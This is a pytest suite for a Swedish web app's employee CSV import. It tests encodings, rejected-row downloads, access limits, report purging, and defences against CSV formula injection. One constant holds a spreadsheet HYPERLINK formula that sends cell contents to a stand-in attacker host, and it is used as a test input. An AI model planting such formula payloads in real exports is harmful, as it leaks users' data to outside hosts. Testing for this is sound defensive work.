"""A coordinator's list of employees, as Excel saves it: the good rows in, the bad ones back.

The import itself is app/accounts/employee_import.py; what it says about addresses
with an account elsewhere is tests/test_import_privacy.py.
"""

import csv
import io
import re
from datetime import timedelta
from html import unescape
from urllib.parse import urlsplit

import pytest
from sqlalchemy import func, select, update

from app.accounts.models import EmployeeImport, Person
from app.bookings.services import book_seat
from app.db import utcnow
from app.extensions import db
from tests.conftest import Auth
from tests.forms import page_form

EMPLOYEES = "/company/employees"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'


@pytest.fixture
def world(app, make):
    with app.app_context():
        company, other = make.company(name="Norrstål AB"), make.company(name="Söderstål AB")
        make.person(("coordinator",), company=company, email="samordnare@norrstal.se")
        make.person(("coordinator",), company=other, email="samordnare@soderstal.se")
        make.person(("project_admin",), email="pia@projekt.se")
        make.employee(company=company, name="Erik Eriksson", email="erik@norrstal.se")
        return {"company_id": company.id}


@pytest.fixture
def coordinator(app, world):
    client = app.test_client()
    Auth(client).login("samordnare@norrstal.se")
    return client


def _upload(client, content: bytes, filename="medarbetare.csv"):
    form = page_form(client, EMPLOYEES, action=f"{EMPLOYEES}/import")
    return form.set("file", (content, filename)).submit()


def _report(client, content: bytes) -> tuple[str, str]:
    """Upload, follow to the report: its address and its text."""
    response = _upload(client, content)
    assert response.status_code == 302, response.get_data(as_text=True)
    page = client.get(response.location)
    assert page.status_code == 200
    return response.location, unescape(page.get_data(as_text=True))


def _link(page: str, text: str) -> str:
    return unescape(re.search(rf'<a href="([^"]+)"[^>]*>{re.escape(text)}</a>', page).group(1))


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig")), delimiter=";"))


def _person(app, address):
    with app.app_context():
        return db.session.scalar(select(Person).where(func.lower(Person.email) == address))


def _counts(app):
    with app.app_context():
        return (
            db.session.scalar(select(func.count(Person.id))),
            db.session.scalar(select(func.count(EmployeeImport.id))),
        )


def test_a_windows_1252_file_from_excel_keeps_the_good_rows_and_gives_back_the_bad(
    app, coordinator
):
    # "CSV (semikolonavgränsad)" from a Swedish Excel: Windows-1252, semicolons, CRLF.
    excel = (
        "Namn;E-post;Telefon;Avdelning\r\n"
        "Åsa Öberg;asa.oberg@norrstal.se;070-111 22 33;Gjuteriet\r\n"
        " Örjan Ärlig ; ORJAN.Arlig@Norrstal.se ;;Svetsen\r\n"
        ";utan.namn@norrstal.se;;Svetsen\r\n"  # line 4: no name
        "Per Fel;per(at)norrstal.se;;\r\n"  # line 5: no address
        ";;;\r\n"
        "Ida Idn;ida@exämple.se;;\r\n"  # line 7: no mail could reach it (was a 500 for all)
        "Erik Eriksson;ERIK@norrstal.se;;Underhåll\r\n"  # already here: gets his team
    ).encode("cp1252")
    _address, page = _report(coordinator, excel)
    assert "2 nya medarbetare är registrerade och får en inbjudan via mejl." in page
    assert "1 fanns redan i ditt företag och fick en ny avdelning." in page
    assert "3 rader avvisades." in page
    assert re.search(r"<td[^>]*>4</td>.*?Namn saknas\.", page, re.S)
    assert re.search(r"<td[^>]*>7</td>.*?tecken utanför a–z: ida@exämple.se", page, re.S)
    assert re.search(r"<td[^>]*>5</td>.*?Ogiltig e-postadress: per\(at\)norrstal.se", page, re.S)
    asa, orjan = _person(app, "asa.oberg@norrstal.se"), _person(app, "orjan.arlig@norrstal.se")
    assert (asa.name, asa.phone, asa.team) == ("Åsa Öberg", "070-111 22 33", "Gjuteriet")
    assert (orjan.name, orjan.team) == ("Örjan Ärlig", "Svetsen")
    assert _person(app, "erik@norrstal.se").team == "Underhåll"

    # The rejected rows, in the file's own columns with the reason last: fixed in
    # Excel and uploaded again, they come in (the reason column is read past).
    rejected = _csv(coordinator.get(_link(page, "Ladda ner de avvisade raderna (CSV)")))
    assert rejected == [
        ["Namn", "E-post", "Telefon", "Avdelning", "Fel"],
        ["", "utan.namn@norrstal.se", "", "Svetsen", "Namn saknas."],
        ["Per Fel", "per(at)norrstal.se", "", "", "Ogiltig e-postadress: per(at)norrstal.se"],
        [
            "Ida Idn",
            "ida@exämple.se",
            "",
            "",
            "E-postadressen har å, ä, ö eller andra tecken utanför a–z: ida@exämple.se",
        ],
    ]
    rejected[1][0], rejected[2][1] = "Nils Namnlös", "per.fel@norrstal.se"
    rejected.pop()
    fixed = "\r\n".join(";".join(row) for row in rejected).encode("cp1252")
    _address, page = _report(coordinator, fixed)
    assert "2 nya medarbetare är registrerade" in page and "0 rader avvisades." in page
    assert _person(app, "per.fel@norrstal.se").name == "Per Fel"


def test_rows_are_numbered_as_a_spreadsheet_shows_them(app, coordinator):
    """A line break typed in a cell is one row in Excel, though two lines in the file:
    the report's row numbers are Excel's, so the rows can be found there."""
    content = (
        "Namn;E-post;Telefon;Avdelning\r\n"
        '"Karin\r\nLång";karin.lang@norrstal.se;;\r\n'
        "Per Berg;per.berg@norrstal.se;;\r\n"
        "Per B;PER.BERG@norrstal.se;;\r\n"
    ).encode("cp1252")
    _address, page = _report(coordinator, content)
    assert "Rad 4 har samma e-postadress som rad 3" in page
    rejected = re.search(r'>(\d+)</td><td data-label="Innehåll"><code>Karin', page)
    assert rejected and rejected.group(1) == "2"


def test_a_utf8_file_with_commas_and_the_same_address_twice(app, coordinator):
    # Excel's "CSV UTF-8" in English: a byte order mark, commas, quoted cells.
    content = (
        "\ufeffname,email,phone,team\n"
        "Bo Berg,bo.berg@norrstal.se,,Verkstad\n"
        '"Berg, Bo",Bo.Berg@NORRSTAL.se,,Kontor\n'
        "\n"
        "Lisa Lund,lisa.lund@norrstal.se,,\n"
        "Bo B,bo.berg@norrstal.se,,\n"
    ).encode()
    _address, page = _report(coordinator, content)
    assert "2 nya medarbetare är registrerade" in page and "0 rader avvisades." in page
    assert "Rad 3 har samma e-postadress som rad 2 och lästes som samma person" in page
    assert "Rad 6 har samma e-postadress som rad 2" in page
    bo = _person(app, "bo.berg@norrstal.se")
    assert (bo.name, bo.team) == ("Bo Berg", "Verkstad")
    assert _person(app, "lisa.lund@norrstal.se") is not None


def test_the_template_from_the_page_is_a_file_the_import_takes(app, coordinator):
    page = coordinator.get(EMPLOYEES).get_data(as_text=True)
    template = coordinator.get(_link(page, "Ladda ner mallen (CSV)"))
    assert _csv(template)[0] == ["namn", "e-post", "telefon", "avdelning"]
    # Uploaded with its example left in, and a row of the company's: the example row is
    # read, and refused with why, so nobody is invited at the example's address.
    content = template.get_data() + b"Lisa Lund;lisa.lund@norrstal.se;;Svetsen\r\n"
    _address, report = _report(coordinator, content)
    assert "1 ny medarbetare är registrerad" in report and "1 rad avvisades." in report
    assert "Exempelraden från mallen: ta bort den och skriv era medarbetare." in report
    assert _person(app, "anna.andersson@example.se") is None
    assert _person(app, "lisa.lund@norrstal.se").team == "Svetsen"


def test_a_file_that_cannot_be_read_is_refused_and_nothing_changes(app, coordinator):
    before = _counts(app)
    app.config["EMPLOYEE_CSV_MAX_BYTES"] = 2048
    files = {
        "Filen är en Excel-arbetsbok": b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 40,
        "Filen är inte en textfil": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        "Filen är för stor (högst 2 kB)": b"namn;e-post\n" + b"A;a@norrstal.se\n" * 200,
        "Filen är tom.": b"",
        "Filen har inga rader med medarbetare.": "namn;e-post\r\n;\r\n".encode("cp1252"),
    }
    for message, content in files.items():
        response = _upload(coordinator, content, "lista.xlsx")
        assert response.status_code == 400, message
        page = unescape(response.get_data(as_text=True))
        error = re.search(r'<p class="error" id="file-error">(.*?)</p>', page, re.S)
        assert error and message in error.group(1), (message, page)
    assert _counts(app) == before
    # A header without a name column names the one missing in the reader's language.
    for language, missing in (("sv", "Saknas: namn."), ("en", "Missing: name.")):
        form = page_form(coordinator, EMPLOYEES, action=f"{EMPLOYEES}/import")
        form.set("file", (b"vem;e-post\nA;a@norrstal.se\n", "lista.csv"))
        page = unescape(form.submit(headers={"Accept-Language": language}).get_data(as_text=True))
        assert missing in page, language
    assert _counts(app) == before


def test_rejected_rows_are_the_companys_own_and_kept_a_day(app, coordinator, world):
    address, page = _report(coordinator, b"namn;e-post\nUtan Adress;\n")
    address = urlsplit(address).path
    download = _link(page, "Ladda ner de avvisade raderna (CSV)")
    assert address in coordinator.get(EMPLOYEES).get_data(as_text=True)
    other = app.test_client()
    Auth(other).login("samordnare@soderstal.se")
    assert other.get(address).status_code == 404
    assert other.get(download).status_code == 404
    assert address not in other.get(EMPLOYEES).get_data(as_text=True)
    admin = app.test_client()
    Auth(admin).login("pia@projekt.se")
    assert admin.get(download).status_code == 403
    # A day later the report is gone, and the next import deletes it, or cron does.
    _age_imports(app)
    assert coordinator.get(download).status_code == 404
    assert address not in coordinator.get(EMPLOYEES).get_data(as_text=True)
    _report(coordinator, b"namn;e-post\nNy Person;ny.person@norrstal.se\n")
    assert _counts(app)[1] == 1
    _age_imports(app)
    result = app.test_cli_runner().invoke(args=["purge-employee-imports"])
    assert result.output == "1 import reports deleted\n" and _counts(app)[1] == 0


def _age_imports(app):
    with app.app_context():
        db.session.execute(update(EmployeeImport).values(created_at=utcnow() - timedelta(hours=25)))
        db.session.commit()


def _formula_cells(response) -> list[str]:
    """Cells a spreadsheet would run: starting with = + - @ (a negative number is data)."""
    return [
        cell
        for row in _csv(response)
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
        and not re.fullmatch(r"-\d+(?:[.,]\d+)?", cell)
    ]


def _csv_urls(app, import_id: int, company_id: int) -> list[str]:
    """Every CSV download of the app, with an object of this world for each variable."""
    from app.views.reports import CENTER_TABLES, PROJECT_TABLES

    values = {
        "name": [*PROJECT_TABLES, *CENTER_TABLES],
        "import_id": [import_id],
        "company_id": [company_id],
    }
    urls = []
    with app.test_request_context():
        for rule in app.url_map.iter_rules():
            if ".csv" not in rule.rule or "GET" not in rule.methods:
                continue
            unknown = set(rule.arguments) - set(values)
            assert not unknown, f"tell this test which object {unknown} of {rule} names"
            combos = [{}]
            for argument in rule.arguments:
                combos = [{**c, argument: v} for c in combos for v in values[argument]]
            urls += [app.url_for(rule.endpoint, **c) for c in combos]
    # A project admin names the company whose lists they read; its coordinator's is theirs.
    return [f"{u}?company={company_id}" if u.startswith("/company/") else u for u in urls]


def test_formulas_are_stored_as_typed_and_no_csv_of_the_app_runs_them(
    app, coordinator, make, world
):
    content = (
        "namn;e-post;telefon;avdelning\n"
        f"{_quoted(FORMULA_NAME)};formel@norrstal.se;+46 70 123 45 67;@verkstad\n"
        "-Minus Person;-inte-en-adress;;+lag\n"
        "@Snabel;snabel@norrstal.se;;=1+1\n"
    ).encode()
    address, _page = _report(coordinator, content)
    with app.app_context():
        formula = db.session.scalar(select(Person).where(Person.email == "formel@norrstal.se"))
        assert (formula.name, formula.phone, formula.team) == (
            FORMULA_NAME,
            "+46 70 123 45 67",
            "@verkstad",
        )
        # Booked, so that every list of bookings or results has the person in it too.
        book_seat(make.session().id, formula, formula)
    admin = app.test_client()
    Auth(admin).login("pia@projekt.se")
    seen = ""
    import_id = int(urlsplit(address).path.rsplit("/", 1)[1])
    for url in _csv_urls(app, import_id, world["company_id"]):
        for client in (coordinator, admin):
            response = client.get(url)
            if response.status_code in (403, 404):
                continue  # not this reader's
            assert _formula_cells(response) == [], url
            seen += response.get_data(as_text=True)
    # The rejected row comes back with its cells as typed, each made text.
    assert "'-Minus Person;'-inte-en-adress;;'+lag" in seen


def _quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'
